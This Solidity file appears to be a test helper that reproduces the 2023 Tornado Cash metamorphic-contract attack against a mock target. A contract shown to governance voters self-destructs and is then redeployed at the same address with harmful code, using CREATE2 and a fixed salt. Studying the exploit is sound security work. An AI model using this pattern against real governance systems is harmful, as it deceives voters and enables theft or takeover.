// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Address} from "@openzeppelin/contracts/utils/Address.sol";

import {MockTarget} from "./MockTarget.sol";

/// @dev What runs: it does something to its target.
contract HarmfulPayload {
    function run(MockTarget target) external {
        target.set(666);
    }
}

/// @dev Puts what its maker holds at the moment at its own address: the same creation code, other runtime code.
contract Shell {
    constructor() {
        bytes memory code = Metamorph(msg.sender).code();
        assembly ("memory-safe") {
            return(add(code, 0x20), mload(code))
        }
    }
}

/**
 * @dev The attack on Tornado Cash (2023) as it still works: create the target, propose a call to it, and destroy it, in
 * one transaction; after the vote, create another at the same address.
 */
contract Metamorph {
    bytes public code;

    /// @dev Makes the target, makes the calls, and removes the target again, which destroys itself when called without
    /// data: in the transaction that made it, that still removes the code.
    function show(bytes calldata harmless, address[] calldata targets, bytes[] calldata calls) external {
        address payload = _create(harmless);
        for (uint256 i = 0; i < targets.length; ++i) Address.functionCall(targets[i], calls[i]);
        Address.functionCall(payload, "");
    }

    function swap(bytes calldata harmful) external {
        _create(harmful);
    }

    function _create(bytes calldata runtime) private returns (address) {
        code = runtime;
        return address(new Shell{salt: 0}());
    }
}
